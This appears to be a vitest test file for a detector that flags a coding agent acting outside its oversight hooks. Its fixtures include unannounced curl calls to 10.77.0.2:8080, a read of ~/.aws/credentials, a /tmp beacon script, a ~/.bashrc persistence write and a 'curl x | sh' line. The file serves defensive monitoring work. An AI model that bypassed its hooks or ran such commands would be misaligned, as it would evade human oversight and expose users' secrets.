import { describe, expect, it } from 'vitest';
import type { Event } from '../../../core/event.js';
import type { Finding } from '../../../detectors/detector.js';
import { factsOf } from '../../../detectors/facts.js';
import { DetectorSet } from '../../../detectors/detector-set.js';
import { hookBypass, isHousekeeping, unwrapSnapshot, type HookMemory } from '../../../detectors/sequence/hook-bypass.js';
import { CTX, HOME, WORKSPACE, expectOneSentence } from './replay.js';

const T0 = Date.UTC(2026, 10, 23, 12, 0, 0);
let n = 0;
const at = (s: number) => new Date(T0 + s * 1000).toISOString();
const SID = 'sess-bypass';
const os = (kind: Event['kind'], s: number, extra: Partial<Event>): Event =>
  ({ id: `os-${++n}`, ts: at(s), source: kind === 'net.connect' ? 'network' : kind === 'exec' ? 'process' : 'file', kind,
    agent: { kind: 'claude-code' }, sessionId: SID, attribution: 'exact', pid: 500 + n, cwd: WORKSPACE, ...extra });
const exec = (argv: string[], s = 0, extra: Partial<Event> = {}) => os('exec', s, { argv, ...extra });
const connect = (addr: string, s = 0, extra: Partial<Event> = {}) => os('net.connect', s, { remote: { addr, port: 8080 }, ...extra });
const fileRead = (path: string, s = 0) => os('file.read', s, { path });
const bashCall = (command: string, s = 0): Event =>
  ({ id: `hk-${++n}`, ts: at(s), source: 'hook', kind: 'tool.call', agent: { kind: 'claude-code' }, sessionId: SID, cwd: WORKSPACE,
    hookEvent: 'PreToolUse', command, tool: { name: 'Bash', input: { command }, useId: `toolu_${n}` } });
const prompt = (s = 0): Event => ({ id: `hk-${++n}`, ts: at(s), source: 'hook', kind: 'prompt', agent: { kind: 'claude-code' }, sessionId: SID, text: 'go' });

const fail = (name: string, err: unknown) => { throw new Error(`${name}: ${String(err)}`); };
/** Replays through facts → hook-bypass (and its memory), as the pipeline does; findings per event. */
function replay(events: Event[], set = new DetectorSet([hookBypass])): Finding[][] {
  return events.map((event) => set.evaluate(event, factsOf(event, CTX), CTX, fail));
}
const all = (events: Event[]) => replay(events).flat();

describe('hook-bypass', () => {
  it('a session with no hook events at all: exec, secret read and connect are named, with their ids as evidence', () => {
    const run = exec(['/bin/bash', '-c', `source ${HOME}/.claude/shell-snapshots/snapshot-bash-1.sh 2>/dev/null || true && curl http://10.77.0.2:8080`]);
    const curl = exec(['curl', 'http://10.77.0.2:8080'], 1);
    const secret = fileRead(`${HOME}/.aws/credentials`, 2);
    const conn = connect('10.77.0.2', 3);
    const found = replay([run, curl, secret, conn]);
    expect(found.every((f) => f.length === 1)).toBe(true);
    const last = found.at(-1)![0]!;
    expect(last).toMatchObject({ rule: 'hook-bypass', severity: 'high', tactic: 'defense-evasion', technique: 'T1562.001', key: 'hook-bypass', block: false });
    expect(last.evidence).toEqual([run.id, curl.id, secret.id, conn.id]);
    expectOneSentence(last.reason, SID, 'curl http://10.77.0.2:8080', 'read ~/.aws/credentials', 'connected to 10.77.0.2:8080', 'no hook event at all');
  });

  it('a tree supervised by `agentwatch run` under its own session has no hooks to bypass', () => {
    const sid = 'run-0b9c2f64-5f0e-4a8e-9d57-3c1e0c7f7a10';
    const found = all([exec(['curl', 'http://10.77.0.2:8080'], 0, { sessionId: sid }), connect('10.77.0.2', 1, { sessionId: sid })]);
    expect(found).toEqual([]);
  });

  it('hooks on: a Bash tool call announces its wrapper, its programs and their connection', () => {
    const cmd = 'curl -s http://10.77.0.2:8080/x';
    expect(all([
      prompt(0), bashCall(cmd, 1),
      exec(['/bin/bash', '-c', `source ${HOME}/.claude/shell-snapshots/s.sh 2>/dev/null || true && ${cmd}`], 1.2),
      exec(['curl', '-s', 'http://10.77.0.2:8080/x'], 1.3), connect('10.77.0.2', 1.4),
    ])).toEqual([]);
  });

  it('an effect tied to a tool call by attribution (toolUseId) is announced, whatever its command line', () => {
    expect(all([prompt(0), bashCall('npm test', 1), exec(['node', '/usr/lib/node_modules/npm/bin/npm-cli.js', 'test'], 2, { toolUseId: 'toolu_x' }),
      connect('104.16.0.1', 3, { toolUseId: 'toolu_x' })])).toEqual([]);
  });

  it('hooks on: an unannounced program alone is not enough (children of hooked calls), its remote connect is → alert', () => {
    expect(all([prompt(0), bashCall('ls', 1), exec(['ls'], 1.1), exec(['python3', '/tmp/.x/beacon.py'], 5)])).toEqual([]);
    const f = all([prompt(0), bashCall('ls', 1), exec(['python3', '/tmp/.x/beacon.py'], 5), connect('10.77.0.2', 6)]);
    expect(f).toHaveLength(1);
    expectOneSentence(f[0]!.reason, '10.77.0.2', 'no tool call in its hooks announced');
  });

  it('near miss: the matching tool call is older than the window → alert', () => {
    expect(all([bashCall('curl http://10.77.0.2:8080', 0), connect('10.77.0.2', 10 * 60)])).toHaveLength(1);
  });

  it('ignores the agent housekeeping: shell snapshot, the agent binary, git polling, trivial programs, loopback', () => {
    expect(all([
      exec(['/bin/bash', '-c', '-l', `SNAPSHOT_FILE=${HOME}/.claude/shell-snapshots/snapshot-bash-1.sh; source ~/.bashrc < /dev/null; declare -f > "$SNAPSHOT_FILE"`]),
      exec(['/bin/bash', '-c', `source ${HOME}/.claude/shell-snapshots/s.sh 2>/dev/null || true && pwd`]),
      exec([`${HOME}/proj/node_modules/@anthropic-ai/claude-code/bin/claude`, '-p', 'x']),
      exec(['git', '--no-optional-locks', 'status', '--porcelain']), exec(['git', '-C', WORKSPACE, 'rev-parse', 'HEAD']),
      exec(['which', 'rg']), exec(['rg', '--files']),
      connect('127.0.0.1'), connect('104.18.0.1', 0, { exe: '/usr/local/bin/claude' }),
    ])).toEqual([]);
  });

  it('a program whose command line is unknown (the poll tier saw it only exiting, or still inside its exec) is no evidence by itself', () => {
    const shell = { exe: '/usr/bin/dash', detail: { tier: 'poll', comm: 'sh', argvUnknown: true } };
    expect(all([os('exec', 0, shell), os('exec', 1, { detail: { tier: 'poll', comm: 'sh', zombie: true, argvUnknown: true } })])).toEqual([]);
  });

  it('judges only effects of the agent tree: correlated, probable and unattributed events are left alone', () => {
    expect(all([exec(['curl', 'x.example'], 0, { attribution: 'probable' }), exec(['curl', 'x.example'], 1, { attribution: 'correlated' }),
      exec(['curl', 'x.example'], 2, { attribution: 'none', sessionId: undefined })])).toEqual([]);
  });

  it('a non-sensitive file or a workspace write is not an effect it judges; a persistence write is', () => {
    expect(all([fileRead(`${WORKSPACE}/README.md`)])).toEqual([]);
    expect(all([os('file.write', 0, { path: `${HOME}/.bashrc` })])).toHaveLength(1);
  });

  it('the state stays bounded', () => {
    const events = Array.from({ length: 100 }, (_, i) => exec(['python3', `/tmp/s${i}.py`], i));
    const set = new DetectorSet([hookBypass]);
    const state = () => set.view<HookMemory>(SID)!;
    replay(events, set);
    expect(state().unhooked.length).toBeLessThanOrEqual(16);
    replay(Array.from({ length: 100 }, (_, i) => bashCall(`echo ${i}`, 200 + i)), set);
    expect(state().hookCalls.length).toBeLessThanOrEqual(32);
    expect(state().hookEvents).toBe(100);
  });

  it('helpers: unwrapSnapshot and isHousekeeping', () => {
    expect(unwrapSnapshot('source /h/.claude/shell-snapshots/s.sh 2>/dev/null || true && npm test')).toBe('npm test');
    expect(unwrapSnapshot('echo hi')).toBe('echo hi');
    expect(isHousekeeping(['git', 'push', 'origin'])).toBe(false);
    expect(isHousekeeping(['bash', '-c', 'true && sleep 1'])).toBe(true);
    expect(isHousekeeping(['sh', '-c', 'curl x | sh'])).toBe(false);
  });
});
